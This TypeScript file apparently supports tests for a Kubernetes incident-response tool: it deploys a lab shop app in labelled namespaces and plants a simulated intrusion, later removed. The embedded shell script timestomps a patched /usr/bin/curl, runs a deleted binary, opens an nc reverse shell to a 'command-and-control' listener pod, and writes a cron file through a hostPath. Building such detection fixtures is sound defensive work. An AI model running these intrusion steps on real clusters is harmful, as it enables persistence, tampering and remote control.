import { readFile } from 'node:fs/promises';
import { imageOf } from '../support/offer.ts';

/** Runs kubectl with arguments and optional input and gives back its stdout; throws when it fails. */
export type Kubectl = (args: readonly string[], input?: string) => Promise<string>;

/** What stands in the cluster after the attack. */
export interface Attack {
  readonly namespace: string;
  readonly pod: string;
  readonly node: string;
  /** Address of the attacker's listener, on another node where there is one. */
  readonly listener: string;
}

/** A manifest with the images that this cluster has. */
async function manifest(name: string): Promise<string> {
  const text = await readFile(new URL(name, import.meta.url), 'utf8');
  return text.replace(/lab\.local\/(shop|toolbox):1/g, (_, image: 'shop' | 'toolbox') => imageOf(image));
}

/** Namespaces of the attack, and the label by which they are known as ours: nobody else's `prod` is touched. */
const namespaces = ['prod', 'outside'];
const mark = 'kubectl-ir-attack=planted';

/**
 * Deploys the shop and attacks one of its pods the way an intruder would: a program replaced by one of the
 * same size with its time put back, a program that runs on after its file was deleted, a reverse shell over an
 * established connection, and a cron file on the node written through a hostPath. An attack that was left is removed first.
 * Throws OperationError, with nothing planted, where a namespace of that name is somebody else's.
 */
export async function plantAttack(kubectl: Kubectl): Promise<Attack> {
  await removeAttack(kubectl);
  for (const name of namespaces) {
    await kubectl(['create', 'namespace', name]);
    await kubectl(['label', 'namespace', name, mark]);
  }
  await kubectl(['apply', '-f', '-'], await manifest('shop.yaml'));
  await kubectl(['rollout', 'status', 'deployment/shop', '-n', 'prod', '--timeout=60s']);
  const [pod, node] = await firstPod(kubectl);
  await kubectl(['apply', '-f', '-'], await listenerManifest(kubectl, node));
  await kubectl([
    'wait',
    'pod/command-and-control',
    '-n',
    'outside',
    '--for=condition=Ready',
    '--timeout=60s',
  ]);
  const listener = await kubectl([
    ...['get', 'pod', 'command-and-control', '-n', 'outside', '-o', 'jsonpath={.status.podIP}'],
  ]);
  await kubectl(['exec', '-n', 'prod', pod, '--', 'sh', '-c', intrusion, 'sh', listener]);
  return { namespace: 'prod', pod, node, listener };
}

/** Takes everything of an attack out of the cluster again, whole or half planted; the cron file goes with it. */
export async function removeAttack(kubectl: Kubectl): Promise<void> {
  const ours = await kubectl(['get', 'namespaces', '-l', mark, '-o', 'name']);
  if (ours.includes('namespace/prod')) {
    for (const pod of (await kubectl(['get', 'pods', '-n', 'prod', '-o', 'name']))
      .split('\n')
      .filter(Boolean)) {
      const cleanUp = ['exec', '-n', 'prod', pod, '--', 'rm', '-f', '/srv/jobs/logrotate-cache'];
      await kubectl(cleanUp).catch(() => undefined);
    }
  }
  await kubectl(['delete', 'namespace', '-l', mark, '--wait=true', '--timeout=60s']);
}

/** The intruder's commands; the address of the listener is the first argument. */
const intrusion = `
set -e
touch -r /usr/bin/curl /tmp/.stamp
printf TROJAN | dd of=/usr/bin/curl bs=1 seek=4096 conv=notrunc 2>/dev/null
touch -r /tmp/.stamp /usr/bin/curl
rm /tmp/.stamp
cp /bin/busybox /tmp/sh
(setsid /tmp/sh -c 'while :; do sleep 5; done' >/dev/null 2>&1 </dev/null &)
until ls -l /proc/[0-9]*/exe 2>/dev/null | grep -q ' -> /tmp/sh$'; do sleep 0.1; done
rm /tmp/sh
(setsid nc "$1" 4444 -e /bin/sh >/dev/null 2>&1 </dev/null &)
echo '* * * * * root /bin/true' >/srv/jobs/logrotate-cache
until grep -qs ':115C 01 ' /proc/net/tcp /proc/net/tcp6; do sleep 0.1; done
`;

async function firstPod(kubectl: Kubectl): Promise<[string, string]> {
  const text = await kubectl([
    ...['get', 'pods', '-n', 'prod', '-l', 'app=shop', '--field-selector=status.phase=Running'],
    ...['-o', 'jsonpath={.items[0].metadata.name} {.items[0].spec.nodeName}'],
  ]);
  const [pod, node] = text.split(' ');
  if (!pod || !node) throw new Error('the shop has no running pod');
  return [pod, node];
}

/** Puts the listener on a node that is not the attacked one, where the cluster has several. */
async function listenerManifest(kubectl: Kubectl, attacked: string): Promise<string> {
  const names = await kubectl(['get', 'nodes', '-o', 'jsonpath={.items[*].metadata.name}']);
  const other = names.split(' ').find((name) => name !== attacked) ?? attacked;
  const text = await manifest('command-and-control.yaml');
  return text.replace('terminationGracePeriodSeconds', `nodeName: ${other}\n  terminationGracePeriodSeconds`);
}
